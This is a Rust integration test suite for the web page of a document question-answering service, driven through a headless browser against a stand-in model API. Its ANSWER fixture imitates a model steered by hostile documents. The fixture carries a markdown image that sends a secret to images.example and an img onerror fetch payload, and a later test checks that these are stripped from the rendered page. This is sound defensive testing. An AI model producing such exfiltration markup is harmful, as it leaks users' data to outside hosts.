//! The page, in a real Chromium that does what a person does (`page/browser.py`).

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::answerability::{DOCUMENTS, english};
use crate::installed::{chromium, python_with_peers};
use crate::project::{Project, samples};
use crate::service::{Service, client, post};
use crate::stand_in::{Reply, StandIn, openai_embeddings};

const CHAT: &str = "/chat/completions";
const EMBEDDINGS: &str = "/embeddings";

/// What a model says that has read hostile documents.
const ANSWER: &str = "Run one command [1]:\n\n```sh\nlanternctl keys rotate payments-signing\n```\n\n\
    The new version is the **primary** at once [1].\n\n| What | How long |\n|:--|--:|\n| Grace period | 72 hours |\n\n\
    ![a picture](http://images.example/leak.png?q=secret) <img src=x onerror=\"fetch('http://images.example')\">\n\n\
    - see the script [2]\n";

/// An answer in pieces of a few characters.
fn chat(text: &str, between: Duration) -> Reply {
    let piece = |text: &str| format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
    let characters: Vec<char> = text.chars().collect();
    let mut pieces: Vec<String> = characters.chunks(7).map(|some| piece(&some.iter().collect::<String>())).collect();
    let end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
    pieces.push(format!("data: {end}\n\ndata: [DONE]\n\n"));
    Reply::stream(pieces, between)
}

/// A project with a pipeline over the sample documents whose answers a stand-in writes; `embed` says who embeds.
fn project(api: &StandIn, embed: &str) -> Project {
    let project = Project::new();
    let pipeline = format!(
        "version: 1\nname: lantern\nproviders:\n  api:\n    kind: openai\n    base_url: \"{}\"\n    api_key: k\n\
         \u{20}   limits: {{ concurrency: 2 }}\n{embed}\
         sources: [{{ files: {{ paths: [\"{}\"] }} }}]\nquery:\n  retrieve: {{ limit: 3 }}\n  answer: {{ model: api/m }}\n",
        api.url(),
        samples().join("guides").display(),
    );
    project.write("lantern.yaml", pipeline);
    project
}

/// Ingests, serves, and has the browser do this.
fn visited(project: &Project, arguments: &[&str], scenario: &str) {
    let service = tokio::task::block_in_place(|| Service::start(project, arguments));
    let mut browser = Command::new(python_with_peers());
    // It leaves nothing in the folder of its modules.
    browser.arg("-B").arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/page/browser.py"));
    browser.arg(chromium()).arg(service.url()).arg(scenario);
    let ended = tokio::task::block_in_place(|| browser.output()).unwrap();
    assert!(ended.status.success(), "{scenario}: {}", String::from_utf8_lossy(&ended.stderr));
}

fn ingested(project: &Project) {
    tokio::task::block_in_place(|| project.run(&["ingest", "-p", "lantern.yaml", "-q"])).expect_code(0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_question_is_answered_and_its_sources_open_at_their_lines() {
    let api = StandIn::start().await;
    api.always(CHAT, |_| chat(ANSWER, Duration::from_millis(5)));
    let project = project(&api, "");
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "answer");
    let last = api.requests().pop().unwrap().body["messages"].to_string();
    assert!(last.contains("Run one command") && last.contains("And how often?"), "what was said before goes along: {last}");
}

#[tokio::test(flavor = "multi_thread")]
async fn who_hears_the_page_hears_what_is_doubtful() {
    let api = StandIn::start().await;
    let answer = "The grace period is 71 hours [1].\n\nA key is rotated by a command [1], says the handbook [9].\n";
    api.always(CHAT, move |_| chat(answer, Duration::ZERO));
    let project = project(&api, "");
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "doubts");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_is_stopped_and_so_is_the_model() {
    let api = StandIn::start().await;
    let words: Vec<String> = (0..2000).map(|n| format!("word{n} ")).collect();
    let words = words.concat();
    api.always(CHAT, move |_| chat(&words, Duration::from_millis(20)));
    let project = project(&api, "");
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "stop");
    for _ in 0..100 {
        if api.in_flight() == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!((api.in_flight(), api.requests().len()), (0, 2), "each question is asked once, and none is left running");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_goes_on_over_a_reload_and_is_paid_for_once() {
    let api = StandIn::start().await;
    let words = |count: usize| (0..count).map(|n| format!("word{n} ")).collect::<Vec<_>>().concat();
    let (short, long) = (words(80), words(4000));
    api.always(CHAT, move |request| {
        let last = request.body["messages"].as_array().unwrap().last().unwrap()["content"].to_string();
        match () {
            () if is_rewrite(&request.body) => chat("How are keys rotated?", Duration::ZERO),
            () if last.contains("What comes first?") => chat(&short, Duration::ZERO),
            () if last.contains("How do I rotate keys?") => chat(&short, Duration::from_millis(40)),
            () => chat(&long, Duration::from_millis(40)),
        }
    });
    let project = project(&api, "");
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "reload");
    assert_eq!(api.requests().iter().filter(|request| !is_rewrite(&request.body)).count(), 4, "each question is asked once");
}

/// Whether a model is asked to put a question of a conversation so that it stands alone.
fn is_rewrite(body: &Value) -> bool {
    body["messages"][0]["content"].as_str().is_some_and(|system| system.starts_with("You rewrite the last question"))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_measured_is_shown_with_its_confidence() {
    let project = Project::new();
    project.write("set/corpus/keys.md", "# Keys\n\nKeys are rotated every month.\n");
    project.write("set/corpus/备份.md", "# 备份\n\n每天凌晨备份数据库。\n");
    let questions = "{\"id\": \"k\", \"text\": \"How are keys rotated?\"}\n{\"id\": \"b\", \"text\": \"什么时候备份？\"}\n";
    project.write("set/queries.jsonl", questions);
    project.write("set/qrels.tsv", "query-id\tcorpus-id\tscore\nk\tkeys.md\t1\nb\t备份.md\t1\n");
    for (name, mode) in [("both", "hybrid"), ("meaning", "dense")] {
        project
            .write(&format!("{name}.yaml"), format!("version: 1\nname: {name}\nquery: {{ retrieve: {{ mode: {mode} }} }}\n"));
    }
    let told = tokio::task::block_in_place(|| {
        project.run(&["eval", "set", "-p", "both.yaml"]).expect_code(0);
        project.run(&["eval", "set", "--compare", "both.yaml", "meaning.yaml", "--json"]).expect_code(0)
    });
    let interval = &told.last("scores")["intervals"]["ndcg@10"];
    assert!(interval[0].as_f64().unwrap() <= interval[1].as_f64().unwrap(), "{interval}");
    visited(&project, &["-p", "both.yaml"], "quality");
}

/// A project with more documents than are embedded before somebody stops it, on a busy machine too: one takes this long.
fn many(api: &StandIn, each: Duration) -> Project {
    api.always(EMBEDDINGS, move |request| openai_embeddings(request, 8).after(each));
    let project = project(api, "embed: { model: api/e, dimensions: 8, batch: { items: 1 } }\n");
    for n in 0..1000 {
        project.write(&format!("many/{n}.md"), format!("# Note {n}\n\nThe note of number {n} says how keys are rotated."));
    }
    let pipeline = String::from_utf8(project.read("lantern.yaml")).unwrap();
    project.write("lantern.yaml", pipeline.replace(&samples().join("guides").display().to_string(), "many"));
    project
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ingest_is_watched_and_stopped() {
    let api = StandIn::start().await;
    visited(&many(&api, Duration::from_millis(500)), &["-p", "lantern.yaml"], "ingest");
}

#[tokio::test(flavor = "multi_thread")]
async fn many_jobs_and_many_tabs_do_not_starve_each_other() {
    let api = StandIn::start().await;
    visited(&many(&api, Duration::from_millis(500)), &["-p", "lantern.yaml"], "tabs");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_is_in_the_state_that_the_service_says() {
    let api = StandIn::start().await;
    visited(&many(&api, Duration::from_millis(1500)), &["-p", "lantern.yaml"], "stopping");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stop_that_is_refused_says_so_and_can_be_asked_for_again() {
    let api = StandIn::start().await;
    visited(&many(&api, Duration::from_millis(500)), &["-p", "lantern.yaml"], "refused");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_view_is_for_all_in_any_light_on_a_phone_and_in_chinese() {
    let api = StandIn::start().await;
    api.always(CHAT, |_| chat(ANSWER, Duration::ZERO));
    let project = project(&api, "");
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "views");
}

#[tokio::test(flavor = "multi_thread")]
async fn all_documents_are_read_from_the_page_and_a_model_is_asked_anyway() {
    let api = StandIn::start().await;
    // Of each question: what was read for it, and whether the best passages have answered it since.
    let asked: [(AtomicUsize, AtomicBool); 2] = Default::default();
    api.always(CHAT, move |request| {
        let reads = request.body["messages"][0]["content"].as_str().is_some_and(|system| system.contains("several readers"));
        let (read, over) = &asked[usize::from(request.body["messages"].to_string().contains("列出"))];
        if !reads {
            over.fetch_or(read.load(Ordering::SeqCst) > 0, Ordering::SeqCst);
            return chat("As the sources say [1].", Duration::ZERO);
        }
        // It goes on for long enough to be looked at. What is on its way is waited for when no more is to be read: it is paid for.
        let waits = read.fetch_add(1, Ordering::SeqCst) >= 3 && !over.load(Ordering::SeqCst);
        chat("- A crane of Baloria [1].", Duration::ZERO).after(Duration::from_secs(if waits { 5 } else { 0 }))
    });
    let project = Project::new();
    for n in 0..DOCUMENTS {
        project.write(&format!("docs/{n:03}.md"), english(n));
    }
    let pipeline = format!(
        "version: 1\nname: lantern\nproviders:\n  api: {{ kind: openai, base_url: \"{}\", api_key: k, limits: {{ concurrency: 2 }} }}\n\
         sources: [docs]\nembed: {{ model: local/potion-base-8M }}\nquery:\n  answer: {{ model: api/m }}\n  whole: {{ part_tokens: 800 }}\n",
        api.url()
    );
    project.write("lantern.yaml", pipeline);
    ingested(&project);
    visited(&project, &["-p", "lantern.yaml"], "whole");
}

#[tokio::test(flavor = "multi_thread")]
async fn several_pipelines_are_asked_together_and_their_sources_say_whose_they_are() {
    let api = StandIn::start().await;
    api.always(CHAT, |_| chat("Every ninety days [1].", Duration::ZERO));
    let project = Project::new();
    project.write("docs/keys.md", "# Keys\n\nKeys are rotated every ninety days.\n");
    project.write("tickets/17.md", "# Ticket 17\n\nHow often are keys rotated? asks a customer.\n");
    for name in ["docs", "tickets"] {
        let pipeline = format!(
            "version: 1\nname: {name}\nproviders:\n  api: {{ kind: openai, base_url: \"{}\", api_key: k }}\nsources: [{name}]\n\
             query: {{ answer: {{ model: api/m }} }}\n",
            api.url()
        );
        project.write(&format!("{name}.yaml"), pipeline);
        let file = format!("{name}.yaml");
        tokio::task::block_in_place(|| project.run(&["ingest", "-p", &file, "-q"])).expect_code(0);
    }
    visited(&project, &["-p", "docs.yaml", "-p", "tickets.yaml"], "together");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_is_asked_for_and_what_to_do_is_said() {
    visited(&Project::new(), &["--token", "0123456789abcdef"], "token");
}

#[tokio::test(flavor = "multi_thread")]
async fn html_comes_in_pieces_that_are_the_whole() {
    let api = StandIn::start().await;
    api.always(CHAT, |_| chat(ANSWER, Duration::from_millis(10)));
    let project = project(&api, "");
    ingested(&project);
    let service = tokio::task::block_in_place(|| Service::start(&project, &["-p", "lantern.yaml"]));

    let asked = json!({"question": "How do I rotate keys?", "html": true});
    let text = client().post(service.at("/api/ask")).json(&asked).send().await.unwrap().text().await.unwrap();
    let events: Vec<Value> =
        text.lines().filter_map(|line| line.strip_prefix("data: ")).map(|data| serde_json::from_str(data).unwrap()).collect();
    assert_eq!(events.last().unwrap()["type"], "done");
    let mut pieces = BTreeMap::new();
    for piece in events.iter().filter(|event| event["type"] == "html") {
        let (block, open) = (piece["block"].as_u64().unwrap(), piece["open"] == true);
        let before = pieces.insert(block, (piece["html"].as_str().unwrap(), open));
        assert!(before.is_none_or(|(_, open)| open), "a finished piece came again");
    }
    assert!(pieces.len() > 4 && pieces.values().all(|(_, open)| !open));

    let whole = json!({"question": "How do I rotate keys?", "html": true, "stream": false});
    let (status, whole) = post(&service.at("/api/ask"), &whole).await;
    let html: String = pieces.values().map(|(html, _)| *html).collect();
    assert_eq!((status, whole["html"].as_str().unwrap()), (200, html.as_str()));
    assert!(html.contains("<a class=\"cite\" href=\"#s1\"") && !html.contains("<img"), "{html}");
    let (_, without) = post(&service.at("/api/ask"), &json!({"question": "How do I rotate keys?", "stream": false})).await;
    assert!(without.get("html").is_none());

    let page = client().get(service.at("/")).send().await.unwrap();
    let tag = page.headers()["etag"].clone();
    assert!(page.headers()["content-security-policy"].to_str().unwrap().contains("script-src 'self'"));
    let again = client().get(service.at("/assets/app.js")).header("if-none-match", tag).send().await.unwrap();
    assert_eq!(again.status(), 304);
    assert_eq!(client().get(service.at("/assets/other.js")).send().await.unwrap().status(), 404);
}
